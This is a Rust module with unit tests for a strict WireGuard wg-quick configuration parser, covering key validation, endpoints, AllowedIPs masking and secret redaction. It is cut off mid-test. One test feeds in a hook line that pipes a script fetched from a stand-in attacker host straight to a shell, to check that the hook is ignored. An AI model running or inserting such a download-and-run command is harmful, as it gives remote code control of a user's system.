//! wg-quick configuration files: a strict parser for the format that
//! `wg-quick(8)` and `wg(8)` accept, for `warren up NAME --wg FILE`.
//!
//! ```ini
//! [Interface]
//! PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=
//! Address = 10.64.0.2/32, fd00:64::2/128
//! DNS = 10.64.0.1, corp.example.com
//! MTU = 1420
//!
//! [Peer]
//! PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
//! Endpoint = vpn.example.com:51820
//! AllowedIPs = 0.0.0.0/0, ::/0
//! PersistentKeepalive = 25
//! ```
//!
//! What is accepted follows wg and wg-quick: section and key names are
//! case-insensitive, `#` starts a comment anywhere on a line, list keys
//! (`Address`, `DNS`, `AllowedIPs`) may repeat and accumulate, `DNS`
//! entries that are not IP addresses are search domains, and AllowedIPs
//! with host bits set are masked (with a warning, as `wg` does). The keys
//! that only wg-quick itself acts on (`Table`, `PreUp`, `PostUp`, `PreDown`,
//! `PostDown`, `SaveConfig`) and `FwMark` are accepted with a warning and
//! never acted on: warren runs no hooks. Everything else that wg would
//! reject, and a few things it would silently misuse (a duplicated scalar
//! key, two peers with one public key, a peer carrying the interface's own
//! key), is an error naming the file and line.
//!
//! Secret keys never appear in an error, a warning or a `Debug` output.

mod endpoint;
mod key;
mod model;
mod parse;

pub use endpoint::*;
pub use key::*;
pub use model::*;
pub use parse::*;

/// Largest configuration file [`load`] reads (a real one is a few
/// kilobytes).
pub const MAX_FILE_LEN: u64 = 1 << 20;
/// Smallest accepted `MTU`.
pub const MIN_MTU: u16 = 576;
/// Largest accepted `MTU`.
pub const MAX_MTU: u16 = 9000;
/// Smallest `MTU` when the interface has an IPv6 address.
pub const MIN_MTU_IPV6: u16 = 1280;
/// How many name servers the system resolver uses (glibc's `MAXNS`).
pub const MAX_USED_DNS_SERVERS: usize = 3;

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;
    use std::io::Write;
    use std::net::{IpAddr, SocketAddr};
    use std::os::unix::fs::PermissionsExt;
    use std::path::Path;
    use warren_ipc::instance::IpPrefix;

    /// A distinct, valid key: 32 bytes of `n`.
    fn key(n: u8) -> String {
        STANDARD.encode([n; 32])
    }

    fn p(text: &str) -> Result<(WgConfig, Vec<String>), ConfError> {
        parse_with_warnings(Path::new("/etc/wg/t.conf"), text)
    }

    fn err_line(text: &str) -> (Option<usize>, String) {
        let e = p(text).unwrap_err();
        assert_eq!(e.file, Path::new("/etc/wg/t.conf"));
        (e.line, e.message)
    }

    /// A minimal valid file with `extra_iface` and `extra_peer` appended to
    /// the sections (interface on lines 1-3, peer header on line 4 + the
    /// extra interface lines).
    fn minimal(extra_iface: &str, extra_peer: &str) -> String {
        format!(
            "[Interface]\nPrivateKey = {}\nAddress = 10.0.0.2/32\n{extra_iface}\
             [Peer]\nPublicKey = {}\nAllowedIPs = 0.0.0.0/0\n{extra_peer}",
            key(1),
            key(2)
        )
    }

    fn pfx(s: &str) -> IpPrefix {
        s.parse().unwrap()
    }

    fn full() -> String {
        format!(
            "# exported by a VPN provider\n\
             [Interface]\n\
             PrivateKey = {pk}   # keep secret\n\
             Address = 10.64.0.2/32, fd00:64::2/128\n\
             Address = 10.65.0.2/24\n\
             DNS = 10.64.0.1, fd00:64::1, corp.example.com\n\
             DNS = lab.example.org.\n\
             MTU = 1420\n\
             ListenPort = 51820\n\
             \n\
             [Peer]\n\
             PublicKey = {p1}\n\
             PresharedKey = {psk}\n\
             Endpoint = [2001:db8::1]:51820\n\
             AllowedIPs = 0.0.0.0/0, ::/0\n\
             PersistentKeepalive = 25\n\
             \n\
             [Peer]\n\
             PublicKey = {p2}\n\
             Endpoint = vpn.example.com:4500\n\
             AllowedIPs = 10.200.0.0/16\n\
             AllowedIPs = 192.168.7.0/24\n",
            pk = key(1),
            p1 = key(2),
            psk = key(3),
            p2 = key(4),
        )
    }

    #[test]
    fn full_file() {
        let (c, w) = p(&full()).unwrap();
        assert!(w.is_empty(), "{w:?}");
        let i = &c.interface;
        assert_eq!(i.private_key.as_bytes(), &[1u8; 32]);
        assert_eq!(
            i.addresses,
            vec![
                pfx("10.64.0.2/32"),
                pfx("fd00:64::2/128"),
                pfx("10.65.0.2/24")
            ]
        );
        assert_eq!(
            i.dns,
            vec![
                "10.64.0.1".parse::<IpAddr>().unwrap(),
                "fd00:64::1".parse().unwrap()
            ]
        );
        assert_eq!(i.dns_search, vec!["corp.example.com", "lab.example.org."]);
        assert_eq!(i.mtu, Some(1420));
        assert_eq!(i.listen_port, Some(51820));
        assert_eq!(c.peers.len(), 2);
        let a = &c.peers[0];
        assert_eq!(a.public_key, PublicKey32([2; 32]));
        assert_eq!(a.preshared_key, Some(Key::from_bytes([3; 32])));
        assert_eq!(
            a.endpoint,
            Some(Endpoint::Addr("[2001:db8::1]:51820".parse().unwrap()))
        );
        assert_eq!(a.allowed_ips, vec![pfx("0.0.0.0/0"), pfx("::/0")]);
        assert_eq!(a.persistent_keepalive, Some(25));
        let b = &c.peers[1];
        assert_eq!(b.public_key, PublicKey32([4; 32]));
        assert_eq!(b.preshared_key, None);
        assert_eq!(
            b.endpoint,
            Some(Endpoint::Name {
                host: "vpn.example.com".into(),
                port: 4500
            })
        );
        assert_eq!(
            b.allowed_ips,
            vec![pfx("10.200.0.0/16"), pfx("192.168.7.0/24")]
        );
        assert_eq!(b.persistent_keepalive, None);
        assert_eq!(
            c.allowed_ips(),
            vec![
                pfx("0.0.0.0/0"),
                pfx("::/0"),
                pfx("10.200.0.0/16"),
                pfx("192.168.7.0/24")
            ]
        );
    }

    #[test]
    fn parse_drops_warnings() {
        let text = minimal("PostUp = iptables -A FORWARD\n", "");
        let c = parse(Path::new("x.conf"), &text).unwrap();
        assert_eq!(c.peers.len(), 1);
    }

    #[test]
    fn missing_private_key() {
        let text = format!(
            "\n[Interface]\nAddress = 10.0.0.2/32\n[Peer]\nPublicKey = {}\n",
            key(2)
        );
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(2));
        assert!(msg.contains("no PrivateKey"), "{msg}");
    }

    #[test]
    fn bad_base64_private_key_is_not_echoed() {
        let secret = "not!base64$but*secret#ish";
        let text = format!("[Interface]\nPrivateKey = {secret}\n");
        // '#' starts a comment, so the value seen is "not!base64$but*secret".
        let e = p(&text).unwrap_err();
        assert_eq!(e.line, Some(2));
        assert!(
            e.message
                .contains("PrivateKey is not a valid base64 32-byte key")
        );
        assert!(e.message.contains("not valid base64"), "{}", e.message);
        let shown = e.to_string();
        assert!(!shown.contains("not!base64"), "{shown}");
        assert!(!shown.contains("secret"), "{shown}");
    }

    #[test]
    fn wrong_length_keys() {
        // 31 bytes ("==" padding) and 33 bytes (no padding).
        for (bytes, n) in [(31usize, 31usize), (33, 33), (16, 16)] {
            let secret = STANDARD.encode(vec![7u8; bytes]);
            let text = format!("[Interface]\n\nPrivateKey = {secret}\n");
            let e = p(&text).unwrap_err();
            assert_eq!(e.line, Some(3));
            assert!(
                e.message
                    .contains(&format!("decodes to {n} bytes instead of 32")),
                "{}",
                e.message
            );
            assert!(!e.to_string().contains(&secret));
        }
        let text = minimal("", "PresharedKey = AAAA\n");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(7));
        assert!(msg.starts_with("PresharedKey is not a valid"), "{msg}");
        assert!(!msg.contains("AAAA"));
        let text = minimal("", "").replace(&key(2), "");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(5));
        assert!(msg.contains("PublicKey is not a valid") && msg.contains("is empty"));
    }

    #[test]
    fn non_canonical_base64_is_rejected() {
        // Same 32 bytes, but the last character carries non-zero padding bits.
        let good = key(1);
        assert_eq!(&good[42..], "E=");
        let bad = format!("{}F=", &good[..42]);
        assert_eq!(Key::from_base64(&bad), Err(KeyError::Base64));
        assert!(Key::from_base64(&good).is_ok());
    }

    #[test]
    fn all_zero_private_key() {
        let text = minimal("", "").replace(&key(1), &key(0));
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(2));
        assert!(msg.contains("all zeros"));
    }

    #[test]
    fn zero_preshared_key_means_none() {
        let text = minimal("", &format!("PresharedKey = {}\n", key(0)));
        let (c, _) = p(&text).unwrap();
        assert_eq!(c.peers[0].preshared_key, None);
    }

    #[test]
    fn unknown_keys() {
        let (line, msg) = err_line(&minimal("Foo = bar\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("unknown key \"Foo\" in [Interface]"), "{msg}");
        assert!(msg.contains("PrivateKey, Address"), "{msg}");
        let (line, msg) = err_line(&minimal("", "Bar = 1\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("unknown key \"Bar\" in [Peer]"), "{msg}");
        let (line, msg) = err_line(&minimal("AllowedIPs = 10.0.0.0/8\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("belongs in a [Peer] section"), "{msg}");
        let (line, msg) = err_line(&minimal("", "Address = 10.0.0.3/32\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("belongs in the [Interface] section"), "{msg}");
        let (line, msg) = err_line(&minimal("", "PostUp = true\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("belongs in the [Interface] section"), "{msg}");
    }

    #[test]
    fn key_outside_section() {
        let text = format!("# hi\nPrivateKey = {}\n{}", key(9), minimal("", ""));
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(2));
        assert!(msg.contains("outside any section"), "{msg}");
        assert!(!msg.contains(&key(9)));
    }

    #[test]
    fn line_without_equals_and_bad_sections() {
        let text = minimal("", "").replace("Address = 10.0.0.2/32", &key(8));
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(3));
        assert!(msg.contains("malformed key name"), "{msg}");
        assert!(!msg.contains(&key(8)[..20]), "{msg}");
        let text = format!("{}\n{}", &key(8)[..43], minimal("", ""));
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(1));
        assert!(msg.contains("no '='"), "{msg}");
        assert!(!msg.contains(&key(8)[..20]), "{msg}");
        let (line, msg) = err_line(&minimal("", "hello world\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("no '='"), "{msg}");
        let (line, msg) = err_line(&minimal("[Interfaces]\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("unknown section [Interfaces]"), "{msg}");
        let (line, msg) = err_line(&minimal("[Peer\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("malformed section header"), "{msg}");
        let (line, msg) = err_line(&minimal("", "[Interface]\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("second [Interface] section (the first is on line 1)"));
        let (line, msg) = err_line(&minimal(" = 5\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("missing key name"), "{msg}");
    }

    #[test]
    fn bad_prefixes() {
        let (line, msg) = err_line(&minimal("Address = 10.0.0.300/24\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("Address \"10.0.0.300/24\""), "{msg}");
        let (line, msg) = err_line(&minimal("Address = 10.0.0.3/33\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("10.0.0.3/33"), "{msg}");
        let (line, _) = err_line(&minimal("Address = 0.0.0.0/0\n", ""));
        assert_eq!(line, Some(4));
        let (line, msg) = err_line(&minimal("Address = 10.0.0.2/24\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("already assigned on line 3"), "{msg}");
        let (line, msg) = err_line(&minimal("", "AllowedIPs = fd00::/129\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("AllowedIPs entry \"fd00::/129\""), "{msg}");
        let (line, msg) = err_line(&minimal("", "AllowedIPs = 10.1.0.0/16,\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("empty entry"), "{msg}");
        let (line, _) = err_line(&minimal("", "AllowedIPs = 10.1.0.0/16 10.2.0.0/16\n"));
        assert_eq!(line, Some(7));
        let (line, _) = err_line(&minimal("", "AllowedIPs = +10.1.0.0/16\n"));
        assert_eq!(line, Some(7));
    }

    #[test]
    fn bad_endpoints() {
        for (ep, want) in [
            ("1.2.3.4:0", "port number from 1 to 65535"),
            ("1.2.3.4:65536", "port number from 1 to 65535"),
            ("1.2.3.4:", "port number from 1 to 65535"),
            ("1.2.3.4", "has no port"),
            ("vpn.example.com", "has no port"),
            ("fd00::1:51820", "without brackets"),
            ("[fd00::1]", "no port after ']'"),
            ("[fd00::1:51820", "without a matching ']'"),
            ("[fe80::1%eth0]:51820", "scope"),
            ("[vpn.example.com]:51820", "only addresses go in brackets"),
            ("1.2.3.256:51820", "not a valid IPv4 address"),
            ("-bad-.example:51820", "nor a valid host name"),
            ("a b:51820", "nor a valid host name"),
            ("", "is empty"),
        ] {
            let (line, msg) = err_line(&minimal("", &format!("Endpoint = {ep}\n")));
            assert_eq!(line, Some(7), "{ep}");
            assert!(msg.starts_with("Endpoint "), "{ep}: {msg}");
            assert!(msg.contains(want), "{ep}: {msg}");
        }
    }

    #[test]
    fn bad_numbers() {
        for (extra, want) in [
            ("MTU = 575\n", "MTU \"575\""),
            ("MTU = 9001\n", "MTU \"9001\""),
            ("MTU = big\n", "MTU \"big\""),
            ("MTU = +1420\n", "MTU \"+1420\""),
            ("ListenPort = 65536\n", "ListenPort"),
            ("ListenPort = off\n", "ListenPort"),
        ] {
            let (line, msg) = err_line(&minimal(extra, ""));
            assert_eq!(line, Some(4), "{extra}");
            assert!(msg.contains(want), "{extra}: {msg}");
        }
        let (line, msg) = err_line(&minimal("", "PersistentKeepalive = 1m\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("neither off nor"), "{msg}");
        let (line, msg) = err_line(&minimal("", "PersistentKeepalive = 70000\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("PersistentKeepalive"), "{msg}");
    }

    #[test]
    fn mtu_too_small_for_ipv6() {
        let text = minimal("MTU = 1200\nAddress = fd00::2/64\n", "");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(4));
        assert!(
            msg.contains("too small for IPv6 address fd00::2/64"),
            "{msg}"
        );
        let (c, _) = p(&minimal("MTU = 1200\n", "")).unwrap();
        assert_eq!(c.interface.mtu, Some(1200));
    }

    #[test]
    fn duplicate_scalar_keys() {
        let text = minimal(&format!("PrivateKey = {}\n", key(5)), "");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(4));
        assert!(msg.contains("PrivateKey is set twice"), "{msg}");
        assert!(msg.contains("first on line 2"), "{msg}");
        assert!(!msg.contains(&key(5)) && !msg.contains(&key(1)));
        for extra in [
            "Endpoint = 1.2.3.4:1\nendpoint = 1.2.3.4:2\n",
            "PersistentKeepalive = 1\nPersistentKeepalive = 2\n",
            format!("PresharedKey = {0}\nPresharedKey = {0}\n", key(3)).as_str(),
            format!("PublicKey = {}\n", key(3)).as_str(),
        ] {
            let e = p(&minimal("", extra)).unwrap_err();
            let want = if extra.starts_with("PublicKey") { 7 } else { 8 };
            assert_eq!(e.line, Some(want), "{extra}");
            assert!(e.message.contains("set twice"), "{}", e.message);
        }
        let (line, _) = err_line(&minimal("MTU = 1400\nmtu = 1400\n", ""));
        assert_eq!(line, Some(5));
    }

    #[test]
    fn duplicate_peer() {
        let text = minimal(
            "",
            &format!(
                "\n[Peer]\nAllowedIPs = 10.9.0.0/16\nPublicKey = {}\n",
                key(2)
            ),
        );
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(10));
        assert!(
            msg.contains("already defined by the [Peer] on line 4"),
            "{msg}"
        );
    }

    #[test]
    fn peer_with_own_key_and_peer_without_key() {
        let text = minimal("", "").replace(
            &key(2),
            &PublicKey32::from_private(&Key::from_bytes([1; 32])).to_base64(),
        );
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(5));
        assert!(msg.contains("interface's own"), "{msg}");
        let text = minimal("", "[Peer]\nAllowedIPs = 10.1.0.0/16\n");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(7));
        assert!(msg.contains("[Peer] has no PublicKey"), "{msg}");
    }

    #[test]
    fn missing_sections() {
        let text = format!(
            "[Interface]\nPrivateKey = {}\nAddress = 10.0.0.2/32\n",
            key(1)
        );
        let e = p(&text).unwrap_err();
        assert_eq!(e.line, None);
        assert!(e.message.starts_with("no [Peer] section"), "{}", e.message);
        assert_eq!(
            e.to_string(),
            "/etc/wg/t.conf: no [Peer] section; expected at least one peer to send traffic to"
        );
        let e = p(&format!("[Peer]\nPublicKey = {}\n", key(2))).unwrap_err();
        assert_eq!(e.line, None);
        assert!(e.message.starts_with("no [Interface] section"));
        let e = p("").unwrap_err();
        assert!(e.message.starts_with("no [Interface] section"));
        let text = format!(
            "[Interface]\nPrivateKey = {}\n[Peer]\nPublicKey = {}\n",
            key(1),
            key(2)
        );
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(1));
        assert!(msg.contains("no Address"), "{msg}");
    }

    #[test]
    fn bad_dns() {
        for bad in ["10.0.0.256", "fd00:::1", "bad_dom@in", "-x.example"] {
            let (line, msg) = err_line(&minimal(&format!("DNS = 1.1.1.1, {bad}\n"), ""));
            assert_eq!(line, Some(4), "{bad}");
            assert!(msg.contains(&format!("DNS entry {bad:?}")), "{msg}");
        }
    }

    #[test]
    fn case_insensitive_names() {
        let text = format!(
            "[INTERFACE]\nprivatekey={}\nADDRESS=10.0.0.2/32\ndns=1.1.1.1\nmtu=1400\n\
             [peer]\npublickey={}\nallowedips=10.0.0.0/8\nENDPOINT=example.net:1\n\
             persistentkeepalive=OFF\nPOSTUP=echo hi\n",
            key(1),
            key(2)
        );
        // PostUp in [peer] is an error; drop it and retry.
        let (line, _) = err_line(&text);
        assert_eq!(line, Some(11));
        let text = text.replace("POSTUP=echo hi\n", "");
        let (c, w) = p(&text).unwrap();
        assert!(w.is_empty());
        assert_eq!(c.interface.mtu, Some(1400));
        assert_eq!(c.interface.dns, vec!["1.1.1.1".parse::<IpAddr>().unwrap()]);
        assert_eq!(c.peers[0].persistent_keepalive, None);
        assert_eq!(
            c.peers[0].endpoint.as_ref().unwrap().to_string(),
            "example.net:1"
        );
    }

    #[test]
    fn comments_crlf_bom_whitespace() {
        let text = format!(
            "\u{feff}# header comment\r\n\r\n  [Interface]  # the interface\r\n\
             \tPrivateKey\t=\t{}  \r\n#Address = 10.9.9.9/32\r\nAddress = 10.0.0.2/24 # mine\r\n\
             [ Peer ]\r\nPublicKey = {} #their key\r\nAllowedIPs = 10.0.0.0/24  ,  fd00::/64\r\n\
             # trailing comment without newline",
            key(1),
            key(2)
        );
        let (c, w) = p(&text).unwrap();
        assert!(w.is_empty(), "{w:?}");
        assert_eq!(c.interface.addresses, vec![pfx("10.0.0.2/24")]);
        assert_eq!(c.peers[0].public_key, PublicKey32([2; 32]));
        assert_eq!(
            c.peers[0].allowed_ips,
            vec![pfx("10.0.0.0/24"), pfx("fd00::/64")]
        );
        // Line numbers count CRLF lines and the BOM line normally.
        let bad = text.replace("AllowedIPs", "AllowedIP");
        assert_eq!(err_line(&bad).0, Some(9));
    }

    #[test]
    fn lists_accumulate_and_split_like_wg_quick() {
        let text = minimal(
            "Address = 10.0.0.3/32 fd00::3/128\nDNS = 1.1.1.1 9.9.9.9,example.com\nDNS = 1.1.1.1\n",
            "AllowedIPs = 10.1.0.0/16\nAllowedIPs = \nAllowedIPs = 0.0.0.0/0\n",
        );
        let (c, w) = p(&text).unwrap();
        assert!(w.is_empty(), "{w:?}");
        assert_eq!(
            c.interface.addresses,
            vec![pfx("10.0.0.2/32"), pfx("10.0.0.3/32"), pfx("fd00::3/128")]
        );
        assert_eq!(c.interface.dns.len(), 2);
        assert_eq!(c.interface.dns_search, vec!["example.com"]);
        assert_eq!(
            c.peers[0].allowed_ips,
            vec![pfx("0.0.0.0/0"), pfx("10.1.0.0/16")]
        );
    }

    #[test]
    fn allowed_ips_are_masked_with_a_warning() {
        let (c, w) = p(&minimal(
            "",
            "AllowedIPs = 10.1.2.3/16, fd00::1:2/112, 10.1.0.0/16\n",
        ))
        .unwrap();
        assert_eq!(
            c.peers[0].allowed_ips,
            vec![pfx("0.0.0.0/0"), pfx("10.1.0.0/16"), pfx("fd00::1:0/112")]
        );
        assert_eq!(w.len(), 2, "{w:?}");
        assert_eq!(
            w[0],
            "/etc/wg/t.conf:7: AllowedIPs 10.1.2.3/16 has host bits set; using 10.1.0.0/16"
        );
        // Address keeps its host bits: it is the interface's own address.
        let (c, _) = p(&minimal("Address = 10.5.0.9/24\n", "")).unwrap();
        assert_eq!(c.interface.addresses[1], pfx("10.5.0.9/24"));
    }

    #[test]
    fn mask_edges() {
        assert_eq!(mask(pfx("10.1.2.3/0")), pfx("0.0.0.0/0"));
        assert_eq!(mask(pfx("10.1.2.3/32")), pfx("10.1.2.3/32"));
        assert_eq!(mask(pfx("10.1.2.3/31")), pfx("10.1.2.2/31"));
        assert_eq!(mask(pfx("fd00::ffff/0")), pfx("::/0"));
        assert_eq!(mask(pfx("fd00::ffff/128")), pfx("fd00::ffff/128"));
        assert_eq!(mask(pfx("fd00::ffff/127")), pfx("fd00::fffe/127"));
    }

    #[test]
    fn shared_allowed_ips_go_to_the_later_peer() {
        let text = minimal(
            "",
            &format!(
                "\n[Peer]\nPublicKey = {}\nAllowedIPs = 10.9.0.0/16, 0.0.0.0/0\n",
                key(3)
            ),
        );
        let (c, w) = p(&text).unwrap();
        assert_eq!(c.peers[0].allowed_ips, Vec::<IpPrefix>::new());
        assert_eq!(
            c.peers[1].allowed_ips,
            vec![pfx("10.9.0.0/16"), pfx("0.0.0.0/0")]
        );
        assert_eq!(w.len(), 2, "{w:?}");
        assert!(w[0].starts_with(
            "/etc/wg/t.conf:10: AllowedIPs 0.0.0.0/0 is also listed by the [Peer] on line 4"
        ));
        assert!(w[1].starts_with("/etc/wg/t.conf:4: peer "), "{}", w[1]);
        assert!(w[1].ends_with("has no AllowedIPs; no traffic will go to this peer"));
    }

    #[test]
    fn ignored_keys_warn() {
        let text = minimal(
            "Table = off\nPreUp = x\nPostUp = curl https://evil.example | sh\nPreDown = y\n\
             PostDown = z\nSaveConfig = true\nFwMark = 0x1234\n",
            "",
        );
        let (_, w) = p(&text).unwrap();
        assert_eq!(w.len(), 7, "{w:?}");
        assert_eq!(
            w[2],
            "/etc/wg/t.conf:6: PostUp ignored: warren does not run wg-quick hooks"
        );
        assert!(w[0].starts_with("/etc/wg/t.conf:4: Table ignored"));
        assert!(w.iter().all(|l| !l.contains("evil")));
    }

    #[test]
    fn zero_and_off_values() {
        let (c, _) = p(&minimal("ListenPort = 0\n", "PersistentKeepalive = 0\n")).unwrap();
        assert_eq!(c.interface.listen_port, None);
        assert_eq!(c.peers[0].persistent_keepalive, None);
        let (c, _) = p(&minimal(
            "ListenPort = 65535\n",
            "PersistentKeepalive = off\n",
        ))
        .unwrap();
        assert_eq!(c.interface.listen_port, Some(65535));
        assert_eq!(c.peers[0].persistent_keepalive, None);
    }

    #[test]
    fn too_many_dns_servers_warns() {
        let (_, w) = p(&minimal("DNS = 1.1.1.1, 1.0.0.1, 9.9.9.9, 8.8.8.8\n", "")).unwrap();
        assert_eq!(w.len(), 1);
        assert!(w[0].contains("4 DNS servers"), "{}", w[0]);
    }

    #[test]
    fn debug_never_shows_secrets() {
        let (c, _) = p(&full()).unwrap();
        let dbg = format!("{c:?} {c:#?}");
        assert!(!dbg.contains(&key(1)), "private key in {dbg}");
        assert!(!dbg.contains(&key(3)), "preshared key in {dbg}");
        assert!(dbg.contains("Key(<redacted>)"));
        // Public keys are not secret.
        assert!(dbg.contains(&key(2)));
        assert_eq!(format!("{:?}", Key::from_bytes([1; 32])), "Key(<redacted>)");
    }

    #[test]
    fn serde_round_trip() {
        let (c, _) = p(&full()).unwrap();
        let json = serde_json::to_string(&c).unwrap();
        assert!(
            json.contains(&format!("\"private_key\":\"{}\"", key(1))),
            "{json}"
        );
        assert!(
            json.contains(&format!("\"public_key\":\"{}\"", key(2))),
            "{json}"
        );
        assert!(
            json.contains("\"endpoint\":\"[2001:db8::1]:51820\""),
            "{json}"
        );
        assert!(
            json.contains("\"endpoint\":\"vpn.example.com:4500\""),
            "{json}"
        );
        let back: WgConfig = serde_json::from_str(&json).unwrap();
        assert_eq!(back, c);
        // Bad keys and endpoints are refused on the way in too, without echo.
        let bad = json.replace(&key(1), "c2VjcmV0");
        let e = serde_json::from_str::<WgConfig>(&bad)
            .unwrap_err()
            .to_string();
        assert!(e.contains("secret key decodes to 6 bytes"), "{e}");
        assert!(!e.contains("c2VjcmV0"));
        let bad = json.replace("vpn.example.com:4500", "vpn.example.com:0");
        assert!(serde_json::from_str::<WgConfig>(&bad).is_err());
    }

    #[test]
    fn endpoint_display_and_parse() {
        for (s, shown) in [
            ("1.2.3.4:51820", "1.2.3.4:51820"),
            ("[fd00::1]:51820", "[fd00::1]:51820"),
            ("[FD00:0::1]:51820", "[fd00::1]:51820"),
            ("[1.2.3.4]:7", "1.2.3.4:7"),
            ("vpn.example.com:51820", "vpn.example.com:51820"),
            ("localhost:1", "localhost:1"),
            ("wg_1.example.:443", "wg_1.example.:443"),
        ] {
            let e: Endpoint = s.parse().unwrap();
            assert_eq!(e.to_string(), shown);
            assert_eq!(e.to_string().parse::<Endpoint>().unwrap(), e);
        }
        assert_eq!("vpn.example.com:99".parse::<Endpoint>().unwrap().port(), 99);
    }

    #[test]
    fn endpoint_resolve() {
        let e: Endpoint = "[::1]:5".parse().unwrap();
        assert_eq!(
            e.resolve().unwrap(),
            vec!["[::1]:5".parse::<SocketAddr>().unwrap()]
        );
        let e: Endpoint = "localhost:51820".parse().unwrap();
        let addrs = e.resolve().unwrap();
        assert!(!addrs.is_empty());
        assert!(
            addrs
                .iter()
                .all(|a| a.port() == 51820 && a.ip().is_loopback())
        );
    }

    #[test]
    fn hostnames() {
        for ok in [
            "a",
            "example.com",
            "example.com.",
            "x-y.z9",
            "_srv.example",
            "1a.2b",
        ] {
            assert!(valid_hostname(ok), "{ok}");
        }
        let long = format!("{}.com", "a".repeat(64));
        for bad in [
            "", ".", "a..b", "-a.com", "a-.com", "a b", "a/b", "1.2.3.4", "a.123", &long,
        ] {
            assert!(!valid_hostname(bad), "{bad}");
        }
    }

    #[test]
    fn public_key_derivation_rfc7748() {
        // RFC 7748 section 6.1 test vectors.
        fn hex(s: &str) -> [u8; 32] {
            let mut out = [0u8; 32];
            for (i, b) in out.iter_mut().enumerate() {
                *b = u8::from_str_radix(&s[2 * i..2 * i + 2], 16).unwrap();
            }
            out
        }
        let vectors = [
            (
                "77076d0a7318a57d3c16c17251b26645df4c2f87ebc0992ab177fba51db92c2a",
                "8520f0098930a754748b7ddcb43ef75a0dbf3a0d26381af4eba4a98eaa9b4e6a",
            ),
            (
                "5dab087e624a8a4b79e17f8b83800ee66f3bb1292618b6fd1c2f8b27ff88e0eb",
                "de9edb7d7b7dc1b4d35b61c2ece435373f8343c85b78674dadfc7e146f882b4f",
            ),
        ];
        for (private, public) in vectors {
            let k = Key::from_bytes(hex(private));
            let text = minimal("", "").replace(&key(1), &k.to_base64());
            let (c, _) = p(&text).unwrap();
            assert_eq!(c.public_key(), PublicKey32(hex(public)));
        }
        // And a freshly generated pair agrees with boringtun.
        let secret = boringtun::x25519::StaticSecret::from([0x42u8; 32]);
        let public = boringtun::x25519::PublicKey::from(&secret);
        let k = Key::from_bytes(secret.to_bytes());
        assert_eq!(PublicKey32::from_private(&k).0, public.to_bytes());
    }

    #[test]
    fn key_helpers() {
        let k = Key::from_base64(&key(7)).unwrap();
        assert_eq!(k.to_base64(), key(7));
        assert_eq!(k.as_bytes(), &[7; 32]);
        assert!(!k.is_zero());
        assert_ne!(k, Key::from_bytes([8; 32]));
        assert_eq!(Key::from_base64(""), Err(KeyError::Empty));
        assert_eq!(Key::from_base64("!!"), Err(KeyError::Base64));
        let pk: PublicKey32 = key(2).parse().unwrap();
        assert_eq!(pk.to_string(), key(2));
        assert_eq!(format!("{pk:?}"), format!("PublicKey32({})", key(2)));
    }

    #[test]
    fn conf_error_display() {
        let e = ConfError::at(Path::new("a.conf"), 3, "bad");
        assert_eq!(e.to_string(), "a.conf:3: bad");
        let e = ConfError::whole(Path::new("a.conf"), "bad");
        assert_eq!(e.to_string(), "a.conf: bad");
    }

    fn write_conf(mode: u32, text: &str) -> tempfile::NamedTempFile {
        let mut f = tempfile::NamedTempFile::new().unwrap();
        f.write_all(text.as_bytes()).unwrap();
        f.flush().unwrap();
        std::fs::set_permissions(f.path(), std::fs::Permissions::from_mode(mode)).unwrap();
        f
    }

    #[test]
    fn load_warns_about_loose_modes() {
        let text = full();
        let f = write_conf(0o644, &text);
        let (c, w) = load(f.path()).unwrap();
        assert_eq!(c, parse(f.path(), &text).unwrap());
        assert_eq!(
            w,
            vec![format!(
                "{} is readable by group or others (mode 0644); chmod 600 it",
                f.path().display()
            )]
        );
        let f = write_conf(0o600, &text);
        let (_, w) = load(f.path()).unwrap();
        assert!(w.is_empty(), "{w:?}");
        let f = write_conf(0o620, &text);
        let (_, w) = load(f.path()).unwrap();
        assert!(
            w[0].contains("accessible by group or others (mode 0620)"),
            "{w:?}"
        );
    }

    #[test]
    fn load_errors() {
        let f = write_conf(0o600, &minimal("Bogus = 1\n", "PostUp = x\n"));
        let e = load(f.path()).unwrap_err();
        assert_eq!(e.file, f.path());
        assert_eq!(e.line, Some(4));
        let e = load(Path::new("/nonexistent/warren/wg0.conf")).unwrap_err();
        assert_eq!(e.line, None);
        assert!(
            e.to_string()
                .starts_with("/nonexistent/warren/wg0.conf: cannot open")
        );
        let dir = tempfile::tempdir().unwrap();
        let e = load(dir.path()).unwrap_err();
        assert!(e.message.contains("is a directory"), "{e}");
        let mut f = tempfile::NamedTempFile::new().unwrap();
